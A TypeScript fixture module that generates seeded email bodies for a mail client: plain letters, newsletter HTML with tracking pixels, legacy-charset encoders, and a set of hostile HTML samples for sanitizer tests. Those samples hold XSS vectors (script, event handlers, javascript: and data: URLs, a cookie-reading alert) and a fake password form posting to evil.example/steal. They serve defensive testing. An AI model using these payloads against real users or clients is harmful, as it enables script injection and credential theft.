// Bodies for the seeded mail: plain text, newsletter HTML (with remote content), hostile HTML for
// the sanitizer, and the hand-encoded legacy-charset messages MailComposer cannot write.
import { type Rng, encodeLegacy, hex, intBetween, pick } from './seed-assets.js';
import {
  type Contact, type Lang, links, newsletterHeadlines, orgGreetings, paragraphs,
  orgSignoffs, personGreetings, signoffs,
} from './seed-content.js';

export const firstName = (contact: Contact) => contact.name.split(' ')[0] ?? contact.name;

/** `.de` → `.example`: image and link hosts stay inside RFC 2606's reserved TLD. */
export const webHost = (contact: Contact) => (contact.address.split('@')[1] ?? 'mail.example').replace(/\.[a-z]+$/, '.example');

/** Berlin time with its real offset (CET/CEST switch on the last Sundays of March and October, 01:00 UTC). */
export function formatDate(date: Date, lang: Lang): string {
  const year = date.getUTCFullYear();
  const lastSunday = (month: number) => {
    const day = new Date(Date.UTC(year, month + 1, 0, 1));
    return day.getTime() - day.getUTCDay() * 86_400_000;
  };
  const t = date.getTime();
  const offsetHours = lang === 'en' ? 0 : t >= lastSunday(2) && t < lastSunday(9) ? 2 : 1;
  const local = new Date(t + offsetHours * 3_600_000);
  const pad = (n: number) => String(n).padStart(2, '0');
  const day = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'][local.getUTCDay()];
  const month = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][local.getUTCMonth()];
  return `${day}, ${pad(local.getUTCDate())} ${month} ${local.getUTCFullYear()} ` +
    `${pad(local.getUTCHours())}:${pad(local.getUTCMinutes())}:${pad(local.getUTCSeconds())} +0${offsetHours}00`;
}

/** The attribution line above a quote, in the style of the sender's mail client. */
export function attribution(date: Date, author: Contact, lang: Lang): string {
  const pad = (n: number) => String(n).padStart(2, '0');
  if (lang === 'de') {
    return `Am ${pad(date.getUTCDate())}.${pad(date.getUTCMonth() + 1)}.${date.getUTCFullYear()} um ` +
      `${pad(date.getUTCHours())}:${pad(date.getUTCMinutes())} schrieb ${author.name} <${author.address}>:`;
  }
  return `On ${date.toUTCString().slice(0, 16)} at ${pad(date.getUTCHours())}:${pad(date.getUTCMinutes())}, ` +
    `${author.name} <${author.address}> wrote:`;
}

export function quote(text: string): string {
  return text.split('\n').map((line) => (line ? `> ${line}` : '>')).join('\n');
}

/** Wraps at 72 columns like a mail client with format=fixed would. */
export function wrap(text: string): string {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    if (line && line.length + word.length + 1 > 72) {
      lines.push(line);
      line = word;
    } else line = line ? `${line} ${word}` : word;
  }
  if (line) lines.push(line);
  return lines.join('\n');
}

/**
 * Greeting, 1–4 paragraphs (long: 6–12), maybe a link, sign-off and signature. People write from
 * the shared pool; organisations from their own lines, with their web address and imprint.
 */
export function letterText(rng: Rng, from: Contact, to: Contact, lang: Lang, long = false): string {
  const personal = from.role === 'person';
  const greeting = pick(rng, personal && to.role === 'person' ? personGreetings[lang] : orgGreetings[lang]).replace('{first}', firstName(to));
  const pool = personal ? paragraphs[lang] : from.lines ?? paragraphs[lang];
  const count = personal && long ? intBetween(rng, 6, 12) : intBetween(rng, 1, personal ? 4 : 2);
  const body: string[] = [greeting];
  for (let n = 0; n < count; n++) {
    const paragraph = pick(rng, pool);
    // German letters go on in lower case after "Hallo Anna,"; English ones start a new sentence
    const lower = n === 0 && lang === 'de' && greeting.endsWith(',');
    body.push(wrap(lower ? paragraph : paragraph.charAt(0).toUpperCase() + paragraph.slice(1)));
  }
  const link = personal ? pick(rng, links) : `https://www.${webHost(from)}/${lang === 'de' ? 'kundencenter' : 'account'}`;
  if (rng() < (personal ? 0.3 : 0.7)) body.push(`${lang === 'de' ? 'Mehr dazu' : 'More'}: ${link}`);
  body.push(`${pick(rng, (personal ? signoffs : orgSignoffs)[lang])}\n${personal ? firstName(from) : from.name}`);
  if (!personal) body.push(`-- \n${from.name} · Musterstraße 12 · 12345 Musterstadt\nhttps://www.${webHost(from)}/kontakt`);
  return body.join('\n\n') + '\n';
}

const escapeHtml = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/**
 * A table-layout newsletter as bulk senders write them. With `remote` it carries what a sanitizer
 * must block by default: http and https images, a 1×1 tracking pixel and a CSS background URL.
 */
export function newsletterHtml(rng: Rng, from: Contact, lang: Lang, remote: boolean, extraHead = '', extraBody = ''): string {
  const host = webHost(from);
  const campaign = hex(rng, 10);
  const articles: string[] = [];
  const teasers = from.lines ?? [''];
  const headlines = newsletterHeadlines[lang];
  const [firstTeaser, firstHeadline] = [intBetween(rng, 0, teasers.length - 1), intBetween(rng, 0, headlines.length - 1)];
  const count = Math.min(teasers.length, intBetween(rng, 2, 4));
  for (let n = 0; n < count; n++) {
    const headline = escapeHtml(headlines[(firstHeadline + n) % headlines.length] ?? '');
    const teaser = escapeHtml(teasers[(firstTeaser + n) % teasers.length] ?? '');
    const scheme = rng() < 0.3 ? 'http' : 'https';
    const image = remote ? `<img src="${scheme}://img.${host}/c/${campaign}/${n}.jpg" width="560" height="240" alt="${headline}" style="display:block;width:100%;height:auto">` : '';
    articles.push(`<tr><td style="padding:16px 24px">${image}<h2 style="font:bold 20px Arial,sans-serif;color:#1a3c5a">${headline}</h2>` +
      `<p style="font:15px/1.5 Arial,sans-serif;color:#333">${teaser}</p>` +
      `<a href="https://www.${host}/r/${campaign}/${n}" style="background:#e85d2a;color:#fff;padding:10px 18px;border-radius:4px;text-decoration:none">` +
      `${lang === 'de' ? 'Mehr erfahren' : 'Read more'}</a></td></tr>`);
  }
  const banner = remote
    ? `<td style="background:#1a3c5a url('https://img.${host}/banner-bg.png') no-repeat center;height:120px;color:#fff;font:bold 26px Arial">`
    : '<td style="background:#1a3c5a;height:120px;color:#fff;font:bold 26px Arial">';
  const pixel = remote ? `<img src="https://t.${host}/open/${campaign}.gif" width="1" height="1" alt="" style="border:0">` : '';
  const unsubscribe = lang === 'de' ? 'Newsletter abbestellen' : 'Unsubscribe';
  return `<!DOCTYPE html>\n<html lang="${lang}"><head><meta charset="utf-8"><title>${escapeHtml(from.name)}</title>` +
    `<style>body{margin:0;background:#f2f4f6}.footer a{color:#888}</style>${extraHead}</head>\n` +
    `<body><table role="presentation" width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">\n` +
    `<tr>${banner}&nbsp;&nbsp;${escapeHtml(from.name)}</td></tr>\n${articles.join('\n')}\n${extraBody}\n` +
    `<tr><td class="footer" style="padding:16px 24px;font:12px Arial;color:#888">${escapeHtml(from.name)} · Musterstraße 12 · 12345 Musterstadt<br>` +
    `<a href="https://www.${host}/unsubscribe?c=${campaign}">${unsubscribe}</a>${pixel}</td></tr>\n</table></body></html>\n`;
}

export function htmlToText(html: string): string {
  return html.replace(/<(head|script|svg)[\s\S]*?<\/\1>/g, '').replace(/<(br|\/tr|\/p|\/h2)>/g, '\n').replace(/<[^>]+>/g, '')
    .replace(/&nbsp;/g, ' ').replace(/&amp;/g, '&').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"')
    .replace(/[ \t]+\n/g, '\n').replace(/\n{3,}/g, '\n\n').trim() + '\n';
}

/**
 * Hostile HTML for the sanitizer tests, with harmless payloads. The three variants together cover
 * script, event handlers, javascript: and data: URLs, iframe, form, meta refresh, @import, SVG
 * with script, object/embed and base.
 */
export const hostileVariants: readonly { head: string; body: string }[] = [
  {
    head: '<meta http-equiv="refresh" content="0;url=https://evil.example/landing"><script>alert(1)</script>',
    body: '<tr><td><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">Jetzt Gutschein einlösen</a>' +
      '<a href="  JaVaScRiPt:alert(document.cookie)">Konto prüfen</a><div onmouseover="alert(1)">Hover me</div></td></tr>',
  },
  {
    head: '<style>@import url("https://evil.example/track.css"); body{background:url("https://evil.example/bg.png")}</style>' +
      '<link rel="stylesheet" href="https://evil.example/x.css">',
    body: '<tr><td><iframe src="https://evil.example/frame" width="600" height="400"></iframe>' +
      '<form action="https://evil.example/steal" method="post"><p>Bitte bestätigen Sie Ihr Passwort:</p>' +
      '<input type="password" name="password"><button type="submit">Bestätigen</button></form>' +
      '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Ihre Sitzung ist abgelaufen.</div></td></tr>',
  },
  {
    head: '<base href="https://evil.example/">',
    body: '<tr><td><svg xmlns="http://www.w3.org/2000/svg" width="100" height="40" onload="alert(1)">' +
      '<script>alert(1)</script><a href="javascript:alert(1)"><text x="0" y="20">SVG link</text></a></svg>' +
      '<object data="https://evil.example/movie.swf"></object><embed src="https://evil.example/x.swf">' +
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Rechnung öffnen</a></td></tr>',
  },
];

/** RFC 2047 "Q" encoded-words over legacy bytes, each at most 75 characters (§2), folded between words. */
function encodeWordsQ(bytes: Buffer, charset: string): string {
  const prefix = `=?${charset}?Q?`;
  const words: string[] = [];
  let word = '';
  for (const byte of bytes) {
    const char = String.fromCharCode(byte);
    const encoded = byte === 0x20 ? '_' : /[A-Za-z0-9!*+\-/]/.test(char) ? char : `=${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    if (prefix.length + word.length + encoded.length + 2 > 75) {
      words.push(`${prefix}${word}?=`);
      word = '';
    }
    word += encoded;
  }
  words.push(`${prefix}${word}?=`);
  return words.join('\n ');
}

/** Quoted-printable (RFC 2045 §6.7) of LF-separated bytes, lines kept under 76 with soft breaks. */
function quotedPrintable(bytes: Buffer): string {
  const out: string[] = [];
  let line = '';
  for (let n = 0; n < bytes.length; n++) {
    const byte = bytes[n] ?? 0;
    if (byte === 0x0a) {
      out.push(line, '\n');
      line = '';
      continue;
    }
    const atLineEnd = n + 1 === bytes.length || bytes[n + 1] === 0x0a;
    const literal = (byte >= 33 && byte <= 126 && byte !== 61) || ((byte === 32 || byte === 9) && !atLineEnd);
    const encoded = literal ? String.fromCharCode(byte) : `=${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    if (line.length + encoded.length > 75) {
      out.push(line, '=\n');
      line = '';
    }
    line += encoded;
  }
  out.push(line);
  return out.join('');
}

export interface LegacyMessage {
  charset: 'iso-8859-1' | 'windows-1252';
  transfer: '8bit' | 'quoted-printable';
  headers: readonly (readonly [string, string])[]; // already-ASCII trace and id headers
  from: Contact;
  to: string;
  subject: string;
  body: string;
  mailer: string;
}

/**
 * A message as older Outlook/Thunderbird versions and shop systems still send it: headers as
 * RFC 2047 encoded-words in the legacy charset and a single text/plain part in 8bit or QP.
 */
export function legacyMessage(message: LegacyMessage): Buffer {
  const label = message.charset === 'iso-8859-1' ? 'ISO-8859-1' : 'windows-1252';
  const headerLines = message.headers.map(([key, value]) => `${key}: ${value}`);
  headerLines.push(
    `From: ${encodeWordsQ(encodeLegacy(message.from.name, message.charset), label)} <${message.from.address}>`,
    `To: ${message.to}`,
    `Subject: ${encodeWordsQ(encodeLegacy(message.subject, message.charset), label)}`,
    'MIME-Version: 1.0',
    `Content-Type: text/plain; charset="${label}"`,
    `Content-Transfer-Encoding: ${message.transfer}`,
    `X-Mailer: ${message.mailer}`,
  );
  const body = encodeLegacy(message.body, message.charset);
  const encodedBody = message.transfer === '8bit' ? body : Buffer.from(quotedPrintable(body), 'ascii');
  return Buffer.concat([Buffer.from(headerLines.join('\n') + '\n\n', 'latin1'), encodedBody]);
}
